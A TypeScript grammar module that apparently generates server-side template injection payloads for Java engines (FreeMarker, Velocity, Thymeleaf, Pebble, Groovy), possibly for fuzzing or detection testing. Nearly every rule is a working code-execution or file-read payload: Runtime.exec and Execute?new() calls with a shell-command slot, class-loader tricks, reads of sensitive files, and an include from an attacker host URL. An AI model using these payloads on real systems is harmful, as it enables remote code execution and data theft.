/** Freemarker, Velocity, Thymeleaf, Pebble, Groovy and JSP templates. */
import { characters, integer, LOWER_CASE, maybe, oneOf, type Rule, text, weighted } from '../../grammar.ts';
import { attackerHost, identifier, sensitiveFile, shellCommand } from '../lexicon.ts';
import { braces } from './arithmetic.ts';

const freemarker: Rule = oneOf(
  text`<#assign ${identifier}="freemarker.template.utility.Execute"?new()>${maybe(' ')}\${${identifier}("${shellCommand}")}`,
  text`\${"freemarker.template.utility.Execute"?new()("${shellCommand}")}`,
  text`[#assign ${identifier} = 'freemarker.template.utility.Execute'?new()]\${${identifier}('${shellCommand}')}`,
  text`<#assign ${identifier}="freemarker.template.utility.ObjectConstructor"?new()>\${${identifier}("java.lang.ProcessBuilder","${shellCommand}").start()}`,
  text`<#assign value="freemarker.template.utility.JythonRuntime"?new()><@value>import os;os.system("${shellCommand}")</@value>`,
  text`<#assign classloader=${identifier}.class.protectionDomain.classLoader><#assign ec=classloader.loadClass("freemarker.template.utility.Execute")>\${ec("${shellCommand}")}`,
  text`\${${identifier}.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('${sensitiveFile}').toURL().openStream().readAllBytes()?join(" ")}`,
  text`<#include "${oneOf('/WEB-INF/web.xml', sensitiveFile, text`http://${attackerHost}/x.ftl`)}" parse=false>`,
  '<#list .data_model?keys as key>${key}</#list>',
  text`\${.${oneOf('data_model', 'globals', 'main', 'vars')}?keys?join(",")}`,
);

const velocity: Rule = oneOf(
  text`#set($${identifier}="")#set($rt=$${identifier}.class.forName("java.lang.Runtime"))#set($ex=$rt.getRuntime().exec("${shellCommand}"))$ex.waitFor()#set($out=$ex.getInputStream())#foreach($i in [1..$out.available()])$out.read()#end`,
  text`$class.inspect("java.lang.Runtime").type.getRuntime().exec("${shellCommand}").waitFor()`,
  text`#set($e="${characters(LOWER_CASE, 1, 3)}")$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("${shellCommand}")`,
  text`#set($${identifier}=$class.inspect("java.lang.${oneOf('System', 'Runtime', 'String', 'ProcessBuilder')}").type)`,
  text`#set($${identifier}='')$${identifier}.class.forName('java.lang.Runtime').getRuntime().exec('${shellCommand}')`,
  text`#include("${sensitiveFile}")#parse("${sensitiveFile}")`,
  text`#evaluate("$${identifier}.class.forName('java.lang.Runtime')")`,
);

const exec: Rule = oneOf(
  text`T(java.lang.Runtime).getRuntime().exec("${shellCommand}")`,
  text`T(java.lang.Runtime).getRuntime().exec('${shellCommand}')`,
  text`new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec("${shellCommand}").getInputStream()).next()`,
  text`new java.lang.ProcessBuilder({'${shellCommand}'}).start()`,
  text`#rt = @java.lang.Runtime@getRuntime(),#rt.exec("${shellCommand}")`,
);
const thymeleaf: Rule = oneOf(
  text`__\${${exec}}__::.${characters(LOWER_CASE, 1, 4)}`,
  text`~{::__\${${exec}}__}`,
  text`[[\${${exec}}]]`,
  text`[(\${${exec}})]`,
  text`th:${oneOf('text', 'utext', 'href', 'fragment')}="\${${exec}}"`,
  text`;/__\${${exec}}__::main.x`,
  text`__|$\${#response.addHeader("x-cmd","${characters(LOWER_CASE, 3, 8)}")}|__::.x`,
);

const pebble: Rule = oneOf(
  text`{% set ${identifier} = '${shellCommand}' %}{% set bytes = (1).TYPE.forName('java.lang.Runtime').methods[${integer(1, 12)}].invoke(null,null).exec(${identifier}).inputStream.readAllBytes() %}{{ (1).TYPE.forName('java.lang.String').constructors[0].newInstance(([bytes]).toArray()) }}`,
  braces(text`${identifier}.getClass().forName('java.lang.Runtime').getRuntime().exec('${shellCommand}')`),
  braces(
    text`'${characters(LOWER_CASE, 1)}'.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('JavaScript').eval("java.lang.Runtime.getRuntime().exec('${shellCommand}')")`,
  ),
  braces(text`request.getClass().getClassLoader()${maybe('.getResource("/").toString()')}`),
  braces(
    text`${oneOf('beans', 'request.servletContext', 'session', 'ctx')}.get("${identifier}").resourceLoader.classLoader.loadClass("java.lang.Runtime")`,
  ),
);

const groovy: Rule = oneOf(
  text`\${"${shellCommand}".execute().text}`,
  text`<% out.print(new ProcessBuilder("${shellCommand}").start().inputStream.text) %>`,
  text`\${new File("${sensitiveFile}").text}`,
  text`<%= Runtime.getRuntime().exec("${shellCommand}").inputStream.text %>`,
  text`\${@groovy.transform.ASTTest(value={assert java.lang.Runtime.getRuntime().exec("${shellCommand}")})def x}`,
);

/** Templates of Java programs. */
export const javaTemplate: Rule = weighted([4, freemarker], [3, velocity], [3, thymeleaf], [2, pebble], [1, groovy]);
